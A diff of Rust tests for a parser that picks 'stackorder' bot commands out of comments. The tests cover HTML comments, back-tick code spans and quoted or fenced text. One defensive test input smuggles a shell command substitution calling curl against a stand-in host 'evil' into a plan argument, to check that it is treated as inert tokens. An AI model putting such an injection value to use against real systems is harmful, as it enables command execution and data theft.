@@ -83,31 +83,35 @@ fn fenced_blocks_are_ignored_until_a_fence_that_closes_them() {
     }
 }
 
-/// BL-066: an integration appends an invisible comment to what the person typed.
 #[test]
-fn html_comments_are_removed_first() {
+fn bl_066_a_comment_that_an_integration_had_appended_to_was_dropped() {
     assert_eq!(parse_comment("stackorder apply\n<!-- sync:root -->"), command(Verb::Apply, &[]));
     assert_eq!(parse_comment("<!-- x -->stackorder apply a<!-- y\nz --> b"), command(Verb::Apply, &["a", "b"]));
     assert_eq!(parse_comment("<!-- stackorder apply"), Parsed::NotForUs);
     assert_eq!(parse_comment("<!--\nstackorder apply\n-->"), Parsed::NotForUs);
 }
 
-/// BL-067: a copied command comes with back-ticks around it.
 #[test]
-fn a_comment_that_is_one_code_span_counts_as_its_content() {
+fn bl_067_a_copied_command_in_back_ticks_was_not_heard() {
     for body in
         ["`stackorder plan a`", "\n  ``stackorder plan a``\n\n", "```stackorder plan a```", "` stackorder plan a `"]
     {
         assert_eq!(parse_comment(body), command(Verb::Plan, &["a"]), "{body:?}");
     }
-    for body in ["run `stackorder plan a`", "`stackorder plan a` please", "`stackorder` `plan`", "``stackorder plan`"] {
+    for body in [
+        "run `stackorder plan a`",
+        "`stackorder plan a` please",
+        "`stackorder` `plan`",
+        "``stackorder plan`",
+        "do not:\n```\nstackorder plan a\n```",
+        "> stackorder plan a\n\nwhy?",
+    ] {
         assert_eq!(parse_comment(body), Parsed::NotForUs, "{body:?}");
     }
 }
 
-/// BL-068: what looks like flags or shell is a key nobody has, and is refused as such later.
 #[test]
-fn flags_and_shell_are_keys_that_no_stack_has() {
+fn bl_068_flags_and_shell_are_keys_that_no_stack_has() {
     assert_eq!(
         parse_comment("stackorder plan -- -var x=$(curl evil)"),
         command(Verb::Plan, &["--", "-var", "x=$(curl", "evil)"])
